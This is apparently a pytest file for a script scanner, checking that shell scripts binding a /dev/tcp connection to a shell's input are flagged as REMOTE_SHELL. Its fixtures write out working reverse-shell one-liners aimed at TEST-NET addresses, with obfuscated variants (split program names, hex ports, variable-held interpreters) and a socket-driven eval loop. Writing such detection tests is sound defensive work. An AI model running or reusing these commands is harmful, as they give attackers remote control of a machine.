"""Shell: a connection bound to a shell's standard input drives it (a remote shell), however the
binding is written: a bare ``exec 0<&N`` that puts the connection under every later command, or a
``<>`` opened on the command of a shell whose name a variable holds. Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def _errors(tmp_path: Path, script: str) -> set[str]:
    return {rule for rule, path, _ in scan_errors(tmp_path, {"scripts/link.sh": script}) if path == "scripts/link.sh"}


def test_a_shell_started_after_exec_binds_stdin_to_a_connection_is_a_remote_shell(tmp_path: Path) -> None:
    script = "#!/bin/sh\nexec 9<>/dev/tcp/192.0.2.44/6000\nexec 0<&9 >&9 2>&9\nexec zsh -l\n"
    assert "REMOTE_SHELL" in _errors(tmp_path, script)


def test_a_located_shell_started_in_a_shell_string_after_exec_binds_stdin_is_a_remote_shell(tmp_path: Path) -> None:
    script = (
        "#!/usr/bin/env bash\n"
        "peer=198.51.100.23; port=$(( 0x2000 ))\n"
        "interp=$(which dash)\n"
        'nohup bash -c "exec 4<>/dev/tcp/$peer/$port; exec 0<&4 1>&4 2>&4; exec $interp" &\n'
    )
    assert "REMOTE_SHELL" in _errors(tmp_path, script)


def test_a_shell_named_by_a_pieced_variable_on_a_read_write_socket_is_a_remote_shell(tmp_path: Path) -> None:
    script = (
        "#!/usr/bin/env bash\n"
        "link() {\n"
        '  local prog="/usr/bin/k""sh" where="192.0.2.90/5151"\n'
        '  "$prog" -i <>"/dev/tcp/$where" >&0 2>&0\n'
        "}\n"
        "link\n"
    )
    assert "REMOTE_SHELL" in _errors(tmp_path, script)


def test_a_connection_read_by_a_filter_is_no_remote_shell(tmp_path: Path) -> None:
    script = (
        "#!/usr/bin/env bash\n"
        "exec 4<>/dev/tcp/192.0.2.44/80\n"
        "printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' >&4\n"
        "exec 0<&4\n"
        "head -n 1\n"
        "tool=$(command -v curl)\n"
        '"$tool" -sI https://example.org/ > /dev/null\n'
    )
    assert "REMOTE_SHELL" not in _errors(tmp_path, script)


def test_lines_read_from_a_connection_opened_for_reading_and_evaluated_are_a_remote_shell(tmp_path: Path) -> None:
    script = '#!/bin/bash\nexec 6</dev/tcp/203.0.113.77/2323\nwhile read -r job <&6; do eval "$job"; done\n'
    assert "REMOTE_SHELL" in _errors(tmp_path, script)
